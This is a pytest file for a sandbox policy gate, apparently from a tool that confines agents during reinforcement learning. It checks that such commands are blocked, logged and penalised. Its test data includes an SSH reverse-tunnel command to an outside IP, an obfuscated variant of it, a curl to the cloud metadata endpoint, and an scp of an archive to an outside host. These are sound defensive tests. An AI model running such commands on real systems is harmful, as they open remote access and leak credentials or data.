"""The gate in a real bubblewrap sandbox: deny is not run and is recorded; ask follows the policy."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from corral.policy.loader import load_policy, policy_from_mapping
from corral.rules.gate import make_gate
from corral.sandbox.sandbox import Sandbox
from tests.sandbox.helpers import new_dir

TUNNEL = "ssh -R 8080:localhost:22 user@203.0.113.5"
MEDIUM = "ssh user@203.0.113.5"  # ask under rl-strict thresholds


def policy_with(ask: str) -> object:
    return policy_from_mapping({"extends": "rl-strict", "gate": {"ask": ask}})


async def test_gate_blocks_reverse_tunnel_and_emits_event(tmp_path: Path) -> None:
    async with Sandbox("rl-strict", workspace=new_dir(tmp_path / "ws"), store=False) as sb:
        res = await sb.exec(f"touch ran_it && {TUNNEL}")
        assert res.blocked and res.exit_code == 126
        assert not (tmp_path / "ws" / "ran_it").exists()
        blocked = [e for e in res.events if e.source == "policy" and e.action == "blocked"]
        assert len(blocked) == 1
        ev = blocked[0]
        assert (ev.rule, ev.category, ev.severity, ev.attack) == (
            "tunnel.ssh_remote_forward", "tunnel", "critical", "T1572")  # fmt: skip
        assert ev.step == res.step
        assert ev.evidence["verdict"] == "deny"
        assert "tunnel.ssh_remote_forward" in [f["rule"] for f in ev.evidence["findings"]]
        # a refusal is judged like the act itself: rl-strict's tunnel response ends the episode
        # and the penalty is charged to the refused step (issue 10: by what it did)
        assert ev.evidence["response"] == "terminate" and sb.terminated
        pen = [e for e in sb.events if e.rule == "respond.penalty"]
        assert [(e.step, e.evidence["penalty"]) for e in pen] == [(res.step, -1.0)]
    async with Sandbox(policy_with("deny"), workspace=new_dir(tmp_path / "ws2"), store=False) as sb:
        res = await sb.exec("curl -s http://169.254.169.254/latest/meta-data/")
        assert res.blocked and not sb.terminated  # metadata: block, the episode goes on
        ok = await sb.exec("echo fine > ok.txt && cat ok.txt")
        assert ok.exit_code == 0 and ok.stdout == "fine\n" and not ok.blocked


async def test_obfuscated_tunnel_is_blocked_too(tmp_path: Path) -> None:
    async with Sandbox("rl-strict", workspace=new_dir(tmp_path / "ws"), store=False) as sb:
        res = await sb.exec("s=ssh; $s -R 8080:localhost:22 user@203.0.113.5")
        assert res.blocked


async def test_rl_strict_ask_means_deny(tmp_path: Path) -> None:
    async with Sandbox("rl-strict", workspace=new_dir(tmp_path / "ws"), store=False) as sb:
        res = await sb.exec(MEDIUM)
        assert res.blocked
        ev = [e for e in res.events if e.action == "blocked"][0]
        assert ev.evidence["verdict"] == "deny" and "ask -> deny" in ev.message


async def test_ask_allow_lets_it_run(tmp_path: Path) -> None:
    # `ssh` is missing or fails inside the sandbox (no network): what matters is it was not blocked
    async with Sandbox(policy_with("allow"), workspace=new_dir(tmp_path / "ws"), store=False) as sb:
        res = await sb.exec(MEDIUM + " 2>/dev/null; echo ran")
        assert not res.blocked and "ran" in res.stdout


@pytest.mark.parametrize("answer", [True, False])
async def test_ask_callback_sync_and_async(tmp_path: Path, answer: bool) -> None:
    asked: list[tuple[str, list[str]]] = []

    async def approve(command: str, findings: list) -> bool:
        asked.append((command, [f.rule for f in findings]))
        await asyncio.sleep(0)
        return answer

    pol = policy_with("callback")
    async with Sandbox(pol, workspace=new_dir(tmp_path / "ws"), store=False,
                       gate=make_gate(pol, approve=approve)) as sb:  # fmt: skip
        res = await sb.exec(MEDIUM + " 2>/dev/null; echo ran")
        assert res.blocked is (not answer)
        assert asked and asked[0][0].startswith(MEDIUM) and "tunnel.ssh_outbound" in asked[0][1]
        # a refused `ssh` (a tunnel finding) ends the episode under rl-strict's responses
        assert sb.terminated is (not answer)
    async with Sandbox(pol, workspace=new_dir(tmp_path / "ws2"), store=False,
                       gate=make_gate(pol, approve=approve)) as sb:  # fmt: skip
        # a deny never reaches the approver
        asked.clear()
        assert (await sb.exec(TUNNEL)).blocked and not asked
    sync_gate = make_gate(pol, approve=lambda c, f: answer)
    assert sync_gate(MEDIUM, None, 1).verdict == ("allow" if answer else "deny")  # type: ignore[arg-type, union-attr]


def test_callback_mode_without_callback_fails_closed() -> None:
    gate = make_gate(policy_with("callback"))  # type: ignore[arg-type]
    d = gate(MEDIUM, None, 1)  # type: ignore[arg-type]
    assert d.verdict == "deny" and "no approval callback" in d.reason  # type: ignore[union-attr]


def test_gate_disabled_policy_gets_no_default_gate() -> None:
    assert Sandbox("observe", store=False).gate is None
    assert Sandbox("rl-strict", store=False).gate is not None
    custom = make_gate(load_policy("dev"))
    assert Sandbox("rl-strict", store=False, gate=custom).gate is custom


def test_allowlisted_host_passes_the_gate() -> None:
    pol = policy_from_mapping({"extends": "rl-strict",
                               "network": {"allow": [{"host": "github.com", "ports": [22]}]}})  # fmt: skip
    gate = make_gate(pol)
    assert gate("scp out.tar git@github.com:me/backup", None, 1).verdict == "allow"  # type: ignore[arg-type, union-attr]
    assert gate("scp out.tar git@203.0.113.5:me/backup", None, 1).verdict == "deny"  # type: ignore[arg-type, union-attr]
